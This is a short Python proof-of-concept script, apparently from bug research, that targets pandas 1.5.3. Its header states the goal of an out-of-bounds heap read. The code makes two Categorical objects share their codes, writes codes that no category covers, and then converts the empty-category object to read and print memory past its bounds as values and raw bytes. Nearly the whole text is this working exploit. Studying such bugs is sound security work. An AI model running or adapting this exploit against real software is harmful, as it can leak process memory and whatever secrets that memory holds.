# source: pandas 1.5.3 pandas/core/indexes/base.py Index.__new__ (categorical dtype -> CategoricalIndex(copy=False)) + recode_for_categories empty-categories shortcut; take_nd unchecked
# family: shared codes / separate categories metadata (pd.Index(cat, dtype=CategoricalDtype) without copy=, writer .array)
# goal: out-of-bounds heap read through a Categorical whose categories are empty
import numpy as np
import pandas as pd

n = 16
cat0 = pd.Categorical([np.nan] * n, categories=pd.Index([], dtype="int64"))
idx = pd.Index(cat0, dtype=pd.CategoricalDtype(list(range(100))))
w = idx.array
for i in range(n):
    w[i] = 99 - i
print("codes of the empty-category Categorical:", list(cat0.codes))
leak = pd.Series(cat0).to_numpy()
print("values read out of bounds:", leak)
print("as bytes:", np.asarray(cat0).tobytes())
